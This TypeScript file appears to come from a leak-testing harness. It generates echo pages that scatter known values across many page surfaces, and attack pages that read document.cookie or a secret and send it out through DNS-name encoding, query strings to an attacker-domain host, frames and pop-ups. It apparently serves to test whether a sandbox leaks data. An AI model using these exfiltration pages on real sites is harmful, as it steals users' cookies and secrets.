import { attackerDomain } from "./attacker.ts";
import { type Channel, channels } from "./channels.ts";
import { writtenOut } from "./written-out.ts";

/** Ports of the attacker, for pages that go there past any name. */
export interface AttackerPorts {
  readonly tcpPort: number;
  readonly udpPort: number;
}

const escapeHtml = (text: string): string => text.replace(/[&<>"]/g, (one) => `&#${one.charCodeAt(0)};`);
const inScript = (value: unknown): string => JSON.stringify(value).replaceAll("<", "\\u003c");

/** The host at the attacker to which a channel leads. */
export function hostOf({ name }: Channel): string {
  return `${name}.${attackerDomain}`;
}

/**
 * A page that shows what its server was sent: in text, title, address, attributes, fields, options, comments, frames,
 * dialogs, console and errors, in every way that `writtenOut` knows, and in stores of the browser.
 */
export function echoPage(known: readonly string[]): string {
  const written = known.flatMap(writtenOut);
  const one = known.join(" ");
  const run = known.map((value) => `${value} `.repeat(40)).join("");
  const attributes = (text: string) =>
    `title="${escapeHtml(text)}" aria-label="${escapeHtml(text)}" data-x="${escapeHtml(text)}"`;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${escapeHtml(one)}</title>
<link rel="icon" href="data:,"><meta name="description" content="${escapeHtml(one)}"></head><body>
<!-- ${one.replaceAll("--", "- -")} -->
<h1>${escapeHtml(known[0] ?? "hello")}</h1>
<form method="get" action="/leaktest/form"><label>Note <input name="note" value="${escapeHtml(one)}"></label>
<label>${escapeHtml(known[0] ?? "")} <textarea name="text" placeholder="${escapeHtml(one)}">${escapeHtml(one)}</textarea></label>
<input type="hidden" name="known" value="${escapeHtml(one)}"><select name="choice">${written
    .slice(0, 40)
    .map((text) => `<option>${escapeHtml(text)}</option>`)
    .join("")}</select>
<button>${escapeHtml(known.at(-1) ?? "Send")}</button></form>
${known.map((value) => `<button type="button" ${attributes(value)} onclick="say()">${escapeHtml(value)}</button><a href="/leaktest/link?${encodeURIComponent(value)}" ${attributes(value)}>${escapeHtml(value)}</a><img alt="${escapeHtml(value)}" src="/leaktest/image/${encodeURIComponent(value)}" width="20" height="20">`).join("\n")}
${written.map((text) => `<p>${text.includes("<b>") ? text : escapeHtml(text)}</p>`).join("\n")}
<ul>${known.map((value) => `<li><span>${[...value].map(escapeHtml).join("</span><span>")}</span></li>`).join("")}</ul>
<p>${escapeHtml(run)}</p><p>${escapeHtml(run.replaceAll(" ", ""))}</p>
<iframe srcdoc="${escapeHtml(`<p>${escapeHtml(one)}</p>`)}" title="${escapeHtml(one)}"></iframe><div id="host"></div><p id="client"></p>
<script>
const known = ${inScript(known)}, one = known.join(" ");
const say = () => { console.error(one); for (const show of [alert, confirm, prompt]) show(one); };
document.querySelector("#host").attachShadow({ mode: "open" }).append(one);
document.querySelector("#client").append(document.cookie, " ", btoa(document.cookie));
history.replaceState({ one }, "", "?" + known.map(encodeURIComponent).join("&") + "#" + encodeURIComponent(one));
console.log(one); window.name = one;
try { localStorage.one = one; sessionStorage.one = one } catch {}
try { indexedDB.open(known[0].replace(/[^a-z0-9]/gi, "")).onupgradeneeded = (event) => event.target.result.createObjectStore("s").put(one, 1) } catch {}
try { caches.open("c").then((cache) => cache.put("/cached", new Response(one))).catch(() => 0) } catch {}
setTimeout(() => { throw new Error(one) }); Promise.reject(new TypeError(one)); setTimeout(say, 200);
</script></body></html>`;
}

/** A page that tries every channel, but for those that lead it away, in a frame of its own, and says when it is through. */
export function attackPage(ports: AttackerPorts, channel: Channel | null, said: string): string {
  const tried = channel ? channel.script : "";
  const url = channel ? `https://${hostOf(channel)}/` : "";
  const frames = channel ? [] : channels.filter(({ isTop }) => !isTop).map(({ name }) => name);
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>trying</title><link rel="icon" href="data:,"></head><body>
<p>Please wait.</p><script>
const { tcpPort, udpPort } = ${inScript(ports)}, data = document.cookie || ${inScript(said)};
const hex = [...data.slice(-40)].map((one) => one.charCodeAt(0).toString(16).padStart(2, "0")).join("");
const name = hex.slice(0, 60) + "." + hex.slice(-60) + ".looked-up.example";
const url = ${inScript(url)} + "?" + encodeURIComponent(data);
const add = (tag, properties) => {
  const element = Object.assign(document.createElement(tag), properties);
  (tag === "meta" || tag === "link" ? document.head : document.body).append(element);
  return element;
};
addEventListener("load", async () => {
  try { ${tried} } catch {}
  const frames = ${inScript(frames)}.map((name) => new Promise((resolve) => {
    const frame = add("iframe", { src: "/leaktest/attack/" + name + location.search });
    frame.onload = () => setTimeout(resolve, 1200);
  }));
  // Only outside the cage a page opens others by itself.
  if (${inScript(channel === null && said !== "")})
    for (const top of ${inScript(channels.filter(({ isTop }) => isTop).map(({ name }) => name))}) open("/leaktest/attack/" + top + location.search);
  await Promise.all(frames);
  fetch("/leaktest/tried/${channel?.name ?? "all"}").catch(() => 0);
});
</script></body></html>`;
}
